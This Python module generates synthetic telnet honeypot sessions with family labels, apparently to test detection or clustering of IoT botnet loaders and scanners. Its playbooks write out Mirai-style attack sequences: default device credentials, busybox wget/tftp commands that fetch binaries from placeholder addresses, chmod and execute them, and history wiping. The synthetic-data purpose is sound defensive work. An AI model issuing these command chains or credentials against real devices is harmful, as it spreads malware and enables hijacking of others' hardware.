"""Synthetic loader and scanner telnet sessions with ground-truth labels.

Eight builtin playbooks cover the behavior shapes seen in the wild:
the released-code loader lineage (mount probing with escaped marker
writes, busybox query tokens), an identity-token variant that renames
the victim host, a stripped-down variant that skips straight to the
architecture probe, a hard-coded-directory prober, an or-chaining
loader with per-session random query strings, a fixed-list multi-script
dropper, and two download-free scanners.

Every generated session is a full Conversation (negotiation bytes,
credential prompts, command/response turns) so the whole preprocessing
chain gets exercised, and rendering is a pure function of the seed.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone

from .sessions import (
    FROM_HONEYPOT,
    TAG_CONTROL,
    TO_HONEYPOT,
    Conversation,
    Message,
)

PHASES = (
    "initialize",
    "get_working_directory",
    "monopolize",
    "test_environment",
    "drop_and_run",
    "query_token",
)

KIND_LOADER = "loader"
KIND_SCANNER = "scanner"

# identity / query-token word pool (per-host choices)
TOKEN_WORDS = (
    "KYTON", "OBJPR", "DWMQA", "ZORRO", "HIKAR",
    "TAREQ", "VULTR", "OWARI", "SORAA", "MIVVI",
)

CREDENTIALS = (
    ("root", "vizxv"), ("root", "xc3511"), ("admin", "admin"),
    ("root", "default"), ("root", "54321"),
)

# attacker-side negotiation sent before the login line; includes a
# subnegotiation so protocol stripping sees every sequence form
NEGOTIATION = (
    b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18\xff\xfb\x1f"
    b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
)

BANNER = "\r\nV200R002 login device\r\nlogin: "
PASSWORD_PROMPT = "Password: "
WELCOME = "\r\nBusyBox v1.16.1 built-in shell (ash)\r\n\r\n~ # "
PROMPT = "~ # "


@dataclass
class MutationSpec:
    query_token: str = "none"        # none | per_host_word | per_session_escape6
    ident_per_host: bool = False     # identity word woven into commands
    digits_per_host: bool = False    # 4-digit id woven into commands
    hostnum_per_host: bool = False   # last octet of the drop URL
    reorder: bool = False            # at most one in-phase adjacent swap/session
    repeat_cwd_probe: bool = False   # variant rendering the cwd probe twice
    query_after_last: int = 0        # query line follows only the last N commands (0 = all)


@dataclass
class Playbook:
    family_name: str
    kind: str
    phases: dict[str, list[str]]     # phase name -> command templates
    mutation_spec: MutationSpec = field(default_factory=MutationSpec)


def _mount_probe(marker_escape: str, marker_file: str) -> list[str]:
    lines = []
    for d in ("/dev", "/tmp", "/var", "/mnt", "/proc"):
        lines.append(
            f"/bin/busybox echo -e '{marker_escape}{d}' > {d}/{marker_file}; "
            f"/bin/busybox cat {d}/{marker_file}; "
            f"/bin/busybox rm {d}/{marker_file}"
        )
    return lines


def builtin_playbooks() -> list[Playbook]:
    books = []

    # released-code lineage: mount probing with the escaped "kami" marker,
    # per-host busybox query token
    books.append(Playbook(
        family_name="mirai-release",
        kind=KIND_LOADER,
        phases={
            "initialize": ["enable", "system", "shell", "sh", "/bin/busybox ps"],
            "get_working_directory": (
                ["/bin/busybox cat /proc/mounts"]
                + _mount_probe(r"\x6b\x61\x6d\x69", ".nippon")
            ),
            "monopolize": ["/bin/busybox rm -rf .sh .t .human"],
            "test_environment": [
                "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper",
                "/bin/busybox cat /bin/echo",
                "/bin/busybox wget; /bin/busybox tftp",
            ],
            "drop_and_run": [
                "/bin/busybox wget http://203.0.113.200/bins/mirai.arm7 -O - > dvrHelper; "
                "/bin/busybox chmod 777 dvrHelper",
                "./dvrHelper telnet.{ident}",
                "/bin/busybox rm -rf dvrHelper",
            ],
            "query_token": ["/bin/busybox {qtoken}"],
        },
        mutation_spec=MutationSpec(query_token="per_host_word", ident_per_host=True,
                                   reorder=True),
    ))

    # identity-token variant: renames the host, fixed SEFA query token,
    # its own marker file and helper binary name
    books.append(Playbook(
        family_name="sefa",
        kind=KIND_LOADER,
        phases={
            "initialize": [
                "enable", "shell", "sh", "linuxshell",
                "hostname SEFA_ID:{digits}",
                "/bin/busybox ps",
            ],
            "get_working_directory": (
                ["/bin/busybox cat /proc/mounts"]
                + _mount_probe(r"\x73\x65\x66\x61", ".sefa")
            ),
            "monopolize": ["/bin/busybox rm -rf .sh .t .human"],
            "test_environment": [
                "/bin/busybox cp /bin/echo sefaexecbi; >sefaexecbi; /bin/busybox chmod 777 sefaexecbi",
                "/bin/busybox cat /bin/echo",
                "/bin/busybox wget; /bin/busybox tftp",
            ],
            "drop_and_run": [
                "/bin/busybox wget http://198.51.100.60/sefa/sefa.arm7 -O - > sefaexecbi; "
                "/bin/busybox chmod 777 sefaexecbi",
                "./sefaexecbi telnet.sefa",
                "/bin/busybox rm -rf sefaexecbi",
            ],
            "query_token": ["/bin/busybox SEFA"],
        },
        mutation_spec=MutationSpec(digits_per_host=True, reorder=True),
    ))

    # stripped-down variant: no init chatter, no directory scan, works in
    # the login directory and probes the architecture from /bin/busybox
    books.append(Playbook(
        family_name="no-path-check",
        kind=KIND_LOADER,
        phases={
            "initialize": [],
            "get_working_directory": [],
            "monopolize": [],
            "test_environment": [
                "/bin/busybox cat /bin/busybox || while read i; do echo $i; done < /bin/busybox",
                "/bin/busybox cat /bin/echo || while read i; do echo $i; done < /bin/echo",
                "cat /proc/self/exe || while read i; do echo $i; done < /proc/self/exe",
                "/bin/busybox wget; /bin/busybox tftp",
            ],
            "drop_and_run": [
                "/bin/busybox wget http://192.0.2.77/npc/npc.bin -O - > npcbin; "
                "/bin/busybox chmod 777 npcbin",
                "/bin/busybox tftp -r npc.bin -g 192.0.2.77 || /bin/busybox wget "
                "http://192.0.2.77/npc/npc.bin -O - > npcbin",
                "./npcbin telnet.{ident}; /bin/busybox rm -rf npcbin",
            ],
            "query_token": ["/bin/busybox {qtoken}"],
        },
        mutation_spec=MutationSpec(query_token="per_host_word", ident_per_host=True),
    ))

    # hard-coded directory list joined by returns, volatile kill list
    books.append(Playbook(
        family_name="hardcoded-path",
        kind=KIND_LOADER,
        phases={
            "initialize": ["enable", "system", "shell", "sh", "/bin/busybox ps"],
            "get_working_directory": [
                ">/var/tmp/.file && cd /var/tmp/",
                ">/tmp/.file && cd /tmp/",
                ">/var/.file && cd /var/",
                ">/dev/.file && cd /dev/",
                ">/mnt/.file && cd /mnt/",
                ">/var/run/.file && cd /var/run/",
            ],
            "monopolize": ["rm -rf {old1} {old2}"],
            "test_environment": ["/bin/busybox cat /bin/echo"],
            "drop_and_run": [
                "/bin/busybox wget http://198.51.100.14/sb/blade.arm -O - > .blade; "
                "/bin/busybox chmod 777 .blade",
                "./.blade telnet.{ident}",
            ],
            "query_token": ["/bin/busybox {qtoken}"],
        },
        mutation_spec=MutationSpec(query_token="per_host_word", ident_per_host=True,
                                   reorder=True),
    ))

    # or-chaining loader, fresh random escaped query string every session
    books.append(Playbook(
        family_name="or-chain-6char",
        kind=KIND_LOADER,
        phases={
            "initialize": ["/bin/busybox wget"],
            "get_working_directory": [">/tmp/.file && cd /tmp/"],
            "monopolize": ["rm -rf .i"],
            "test_environment": ["/bin/busybox cat /bin/echo"],
            "drop_and_run": [
                "wget http://203.0.113.99/.i || busybox wget http://203.0.113.99/.i || "
                "/bin/busybox wget http://203.0.113.99/.i",
                "tftp -r .i -g 203.0.113.99 || busybox tftp -r .i -g 203.0.113.99 || "
                "/bin/busybox tftp -r .i -g 203.0.113.99",
                "chmod 777 .i || busybox chmod 777 .i || /bin/busybox chmod 777 .i",
                "./.i || busybox ./.i",
                "rm -rf .i || busybox rm -rf .i",
            ],
            "query_token": ["/bin/busybox echo -e '{esc6}'"],
        },
        mutation_spec=MutationSpec(query_token="per_session_escape6",
                                   repeat_cwd_probe=True, query_after_last=3),
    ))

    # fixed-list dropper fetching several shell scripts, no query token
    multi = ["ls /home", "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /"]
    for i in (1, 2, 3, 4):
        multi.append(
            f"wget http://198.51.100.{{hostnum}}/whattttttlol.{i}.sh; "
            f"chmod 777 whattttttlol.{i}.sh; sh whattttttlol.{i}.sh; "
            f"rm -rf whattttttlol.{i}.sh"
        )
    multi.append("rm -rf whattttttlol.*.sh; history -c")
    books.append(Playbook(
        family_name="multi-script",
        kind=KIND_LOADER,
        phases={
            "initialize": [multi[0]],
            "get_working_directory": [multi[1]],
            "monopolize": [],
            "test_environment": [],
            "drop_and_run": multi[2:],
            "query_token": [],
        },
        mutation_spec=MutationSpec(hostnum_per_host=True),
    ))

    # environment prober: collects system facts and tests writability
    # without ever fetching anything
    books.append(Playbook(
        family_name="probe-scanner",
        kind=KIND_SCANNER,
        phases={
            "initialize": ["enable", "system", "shell", "sh"],
            "get_working_directory": [
                "echo probe > /tmp/.probe; cat /tmp/.probe; rm /tmp/.probe",
                "echo probe > /var/.probe; cat /var/.probe; rm /var/.probe",
                "echo probe > /dev/.probe; cat /dev/.probe; rm /dev/.probe",
                "echo probe > /mnt/.probe; cat /mnt/.probe; rm /mnt/.probe",
                "echo probe > /run/.probe; cat /run/.probe; rm /run/.probe",
            ],
            "monopolize": [],
            "test_environment": [
                "/bin/busybox ps",
                "cat /proc/cpuinfo; cat /proc/version; cat /proc/meminfo",
                "uname -a",
                "/bin/busybox echo -e '\\x70\\x72\\x6f\\x62\\x65'",
                "echo {ident}",
            ],
            "drop_and_run": [],
            "query_token": [],
        },
        mutation_spec=MutationSpec(ident_per_host=True),
    ))

    # token prober: shares the random escaped-string habit but never
    # fetches anything
    books.append(Playbook(
        family_name="token-scanner",
        kind=KIND_SCANNER,
        phases={
            "initialize": ["enable", "sh"],
            "get_working_directory": [],
            "monopolize": ["rm -rf .t"],
            "test_environment": [
                "/bin/busybox ps",
                "cat /proc/mounts",
                "cat /proc/net/dev; cat /proc/net/route; cat /proc/net/arp",
                "ifconfig; cat /sys/class/net/eth0/address; cat /sys/class/net/eth0/mtu",
                "/bin/busybox cat /proc/self/environ",
            ],
            "drop_and_run": [],
            "query_token": ["/bin/busybox echo -e '{esc6}'"],
        },
        mutation_spec=MutationSpec(query_token="per_session_escape6",
                                   query_after_last=2),
    ))

    return books


@dataclass
class SyntheticHost:
    host_id: str  # documentation-range IP, never a real address
    family_name: str
    seed: int
    sessions_per_host: int = 1

    def __post_init__(self):
        if self.sessions_per_host < 1:
            raise ValueError("sessions_per_host must be >= 1")


def _derived_rng(*key) -> random.Random:
    digest = hashlib.sha256(repr(key).encode("utf-8")).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


def _escape6(rng: random.Random) -> str:
    # six random escaped characters, hex-escaped as loaders print them
    return "".join(f"\\x{rng.randrange(0x41, 0x5b):02x}" for _ in range(6))


def _host_pool_pick(seed: int, family: str, pool: tuple, tag: str, host_idx: int) -> str:
    """Per-family shuffled pool indexed by host, so two hosts of one family
    never draw the same word (a numeric suffix covers pool exhaustion)."""
    rng = _derived_rng(seed, family, tag)
    shuffled = rng.sample(pool, len(pool))
    word = shuffled[host_idx % len(shuffled)]
    wrap = host_idx // len(shuffled)
    return word if wrap == 0 else f"{word}{wrap}"


def render_session_lines(book: Playbook, seed: int, host_idx: int,
                         session_idx: int) -> list[str]:
    """Command lines (no terminators) for one session; deterministic in
    (playbook, seed, host, session)."""
    spec = book.mutation_spec
    host_rng = _derived_rng(seed, book.family_name, host_idx)
    ctx = {
        "qtoken": _host_pool_pick(seed, book.family_name, TOKEN_WORDS, "q", host_idx),
        "ident": _host_pool_pick(seed, book.family_name, TOKEN_WORDS, "i", host_idx).lower(),
        "digits": f"{(host_idx + 1) * 1111 + host_rng.randrange(1000)}",
        "old1": host_rng.choice((".oldbot", ".zbot", ".xbot")),
        "old2": host_rng.choice((".swb", ".blade0", ".bsd")),
        "hostnum": str(20 + host_idx),
    }
    sess_rng = _derived_rng(seed, book.family_name, host_idx, session_idx)
    if spec.query_token == "per_session_escape6":
        ctx["esc6"] = _escape6(sess_rng)

    phases: dict[str, list[str]] = {}
    for phase in PHASES:
        phases[phase] = [tpl.format(**ctx) for tpl in book.phases.get(phase, [])]
    if spec.repeat_cwd_probe and sess_rng.random() < 0.5:
        phases["get_working_directory"] = phases["get_working_directory"] * 2
    if spec.reorder and sess_rng.random() < 0.5:
        candidates = [p for p in PHASES[:5] if len(phases[p]) >= 2]
        if candidates:
            p = sess_rng.choice(candidates)
            i = sess_rng.randrange(len(phases[p]) - 1)
            phases[p][i], phases[p][i + 1] = phases[p][i + 1], phases[p][i]

    commands = []
    for phase in PHASES[:5]:
        commands.extend(phases[phase])
    query = phases["query_token"]
    if not query:
        return commands
    lines = []
    first_queried = 0 if spec.query_after_last <= 0 else max(0, len(commands) - spec.query_after_last)
    for i, cmd in enumerate(commands):
        lines.append(cmd)
        if i >= first_queried:
            lines.extend(query)
    return lines


def _shell_reply(line: str) -> str:
    """Deterministic canned response for a rendered command line."""
    if line.startswith("/bin/busybox ") and " " not in line[13:]:
        applet = line[13:]
        if applet not in ("ps", "wget", "tftp", "sh"):
            return f"{applet}: applet not found\r\n" + PROMPT
    return PROMPT


def build_conversation(book: Playbook, seed: int, host: SyntheticHost,
                       host_idx: int, session_idx: int,
                       base_time: datetime) -> Conversation:
    lines = render_session_lines(book, seed, host_idx, session_idx)
    cred_rng = _derived_rng(seed, book.family_name, host_idx, "creds")
    user, password = cred_rng.choice(CREDENTIALS)

    t = base_time
    messages: list[Message] = []

    def add(direction: str, payload: bytes):
        nonlocal t
        messages.append(Message(direction, payload, t))
        t = t + timedelta(milliseconds=250)

    add(FROM_HONEYPOT, BANNER.encode("latin-1"))
    add(TO_HONEYPOT, NEGOTIATION)
    add(TO_HONEYPOT, f"{user}\r\n".encode("latin-1"))
    add(FROM_HONEYPOT, PASSWORD_PROMPT.encode("latin-1"))
    add(TO_HONEYPOT, f"{password}\r\n".encode("latin-1"))
    add(FROM_HONEYPOT, WELCOME.encode("latin-1"))
    for line in lines:
        add(TO_HONEYPOT, f"{line}\r\n".encode("latin-1"))
        add(FROM_HONEYPOT, _shell_reply(line).encode("latin-1"))

    return Conversation(
        session_id=f"sim-{book.family_name}-h{host_idx:02d}-s{session_idx:02d}",
        peer_addr=f"{host.host_id}:{40000 + host_idx * 100 + session_idx}",
        local_port=23,
        started_at=messages[0].at,
        ended_at=messages[-1].at + timedelta(seconds=1),
        origin_tag=TAG_CONTROL,
        messages=messages,
    )


@dataclass
class SessionLabel:
    session_id: str
    host: str
    family: str


def generate(playbooks: list[Playbook], hosts_per_family: int,
             sessions_per_host: int, seed: int,
             ) -> tuple[list[Conversation], list[SessionLabel]]:
    """Render the labeled control-group corpus. Hosts get documentation
    range addresses so synthetic traffic can never be mistaken for a live
    host."""
    if hosts_per_family < 1 or sessions_per_host < 1:
        raise ValueError("hosts_per_family and sessions_per_host must be >= 1")
    epoch = datetime(2025, 3, 1, tzinfo=timezone.utc)
    conversations: list[Conversation] = []
    labels: list[SessionLabel] = []
    for f_idx, book in enumerate(playbooks):
        for h in range(hosts_per_family):
            host = SyntheticHost(
                host_id=f"203.0.113.{f_idx * 10 + h + 1}",
                family_name=book.family_name,
                seed=seed,
                sessions_per_host=sessions_per_host,
            )
            for s in range(sessions_per_host):
                base = epoch + timedelta(hours=f_idx * 100 + h, minutes=s * 5)
                conv = build_conversation(book, seed, host, h, s, base)
                conversations.append(conv)
                labels.append(SessionLabel(conv.session_id, host.host_id, book.family_name))
    return conversations, labels


def write_labels_csv(path: str, labels: list[SessionLabel]) -> None:
    import csv

    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["session_id", "host", "family"])
        for lab in labels:
            writer.writerow([lab.session_id, lab.host, lab.family])


def read_labels_csv(path: str) -> list[SessionLabel]:
    import csv

    labels = []
    with open(path, "r", encoding="utf-8", newline="") as fh:
        for row in csv.DictReader(fh):
            labels.append(SessionLabel(row["session_id"], row["host"], row["family"]))
    return labels
